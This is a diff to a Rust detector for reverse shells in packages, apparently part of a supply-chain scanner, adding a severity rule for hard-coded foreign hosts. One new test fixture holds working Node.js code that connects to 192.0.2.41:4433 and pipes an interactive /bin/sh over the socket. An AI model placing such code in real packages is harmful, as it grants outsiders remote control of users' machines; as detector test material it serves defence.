@@ -1,9 +1,10 @@
 //! A shell without a command, beside a connection.
 
 use super::judge::{self, ByTrigger};
+use super::provenance::Whose;
 use super::{Context, Declaration, Example, Finding};
 use crate::behaviours::Behaviour;
-use crate::model::Severity;
+use crate::model::{Origin, Severity};
 
 pub(super) static FINDING: Declaration = Declaration {
     id: "reverse-shell",
@@ -14,6 +15,30 @@ pub(super) static FINDING: Declaration = Declaration {
     benign_when: "A terminal in a page or a client for remote work, which its user starts.",
     references: &["CWE-506", "T1059", "T1095", "T1571"],
     examples: &[
+        Example {
+            name: "a function that is called connects a shell to a host of its own choice",
+            severity: Some(Severity::High),
+            files: &[
+                (
+                    "package.json",
+                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
+                ),
+                (
+                    "i.js",
+                    r#"const { Socket } = require("net");
+const { spawn } = require("child_process");
+const peer = { host: "192.0.2.41", port: 4433 };
+exports.attach = () => {
+  const link = new Socket();
+  link.connect(peer.port, peer.host, () => {
+    const side = spawn("/bin/sh", ["-i"]);
+    link.pipe(side.stdin);
+    side.stdout.pipe(link);
+  });
+};"#,
+                ),
+            ],
+        },
         Example {
             name: "a socket is piped into a shell on install",
             severity: Some(Severity::Critical),
@@ -69,6 +94,11 @@ const AT_MOST: ByTrigger = ByTrigger {
     import: Severity::Critical,
     asked: Severity::Low,
 };
+/// Where the package says to whom: no caller wants that.
+const FIXED_AT_MOST: ByTrigger = ByTrigger {
+    import: Severity::Critical,
+    asked: Severity::High,
+};
 
 fn detect(context: &Context<'_>, found: &mut Vec<Finding>) {
     let connects: Vec<&Behaviour> = context
@@ -99,9 +129,24 @@ fn detect(context: &Context<'_>, found: &mut Vec<Finding>) {
         let mut finding = Finding::of_behaviour(&FINDING, behaviour, message);
         finding.evidence.extend(&connection.sites);
         finding.evidence.sort_unstable();
-        judge::by_trigger(AT_MOST, &mut finding);
+        let at_most = match is_fixed(context, connection) {
+            true => FIXED_AT_MOST,
+            false => AT_MOST,
+        };
+        judge::by_trigger(at_most, &mut finding);
         found.push(finding);
     }
+}
+
+/// Whether the package alone says with whom it connects, and that is not this machine.
+fn is_fixed(context: &Context<'_>, connection: &Behaviour) -> bool {
+    let Some(to) = connection.target.as_deref() else {
+        return false;
+    };
+    let is_chosen = connection.origin.has(Origin::Parameter)
+        || connection.origin.has(Origin::Environment)
+        || connection.origin.has(Origin::Unknown);
+    !is_chosen && !to.contains('/') && context.home.whose(to) == Some(Whose::Foreign)
 }
 
 /// Whether a command is a shell that waits for commands.
